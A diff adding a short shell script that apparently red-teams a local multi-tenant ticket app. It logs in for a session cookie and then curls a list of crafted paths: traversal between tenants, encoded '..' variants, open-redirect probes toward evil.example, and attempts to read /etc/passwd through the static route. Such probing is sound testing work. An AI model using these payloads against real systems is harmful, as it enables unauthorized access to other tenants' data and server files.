@@ -1,0 +1,6 @@
+X=$(/work/main/.venv/bin/python -c "
+from h import *
+cl,r=login('x','admin'); print(raw_cookie(cl,'/c/xingfuli'))")
+for p in '/c/jinmao/../xingfuli/tickets/1' '/c/xingfuli/../jinmao/tickets/1' '/c/jinmao/%2e%2e/xingfuli/tickets/1' '/c/jinmao/%2E%2E/xingfuli/tickets' '/c/jinmao/..%2fxingfuli/tickets' '/c/jinmao%2f..%2fxingfuli/tickets' '/c//jinmao/tickets' '//c/jinmao/tickets' '/c/jinmao//tickets' '/c/JINMAO/' '/c/Jinmao/tickets' '/c/jinmao./' '/c/jinmao../' '/c/jinmao%2e/' '/c/jinmao/./tickets' '/c/xyz/' '/c/' '/c' '/c/jinmao' '/c/xingfuli' '/c/jinmao%00/' '/c/jinmao;x/tickets' '/c/jinmao/tickets/' '/c/jinmao/tickets/1/' '/c/xingfuli//evil.example' '/c/xingfuli/..//evil.example' '///evil.example/' '//evil.example/' '/c/xingfuli/tickets//evil.example/' '/c/jinmao/%5c%5cevil.example' '/c/xingfuli/static/../../jinmao/' '/c/xingfuli/static/..%2f..%2fjinmao%2ftickets' '/c/xingfuli/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd' '/static/..%2f..%2f..%2fetc/passwd' '/c/xingfuli/static/..%2fapp.css' '/c/xingfuli/static//etc/passwd' '/c/xingfuli/static/%2fetc%2fpasswd'; do
+  printf '%-55s ' "$p"; curl -s --path-as-is -o /tmp/rt51_body -w '%{http_code} loc=%{redirect_url} ' -b "hongqiao_session=$X" "http://127.0.0.1:8791$p"; head -c 90 /tmp/rt51_body | tr '\n' ' '; echo
+done
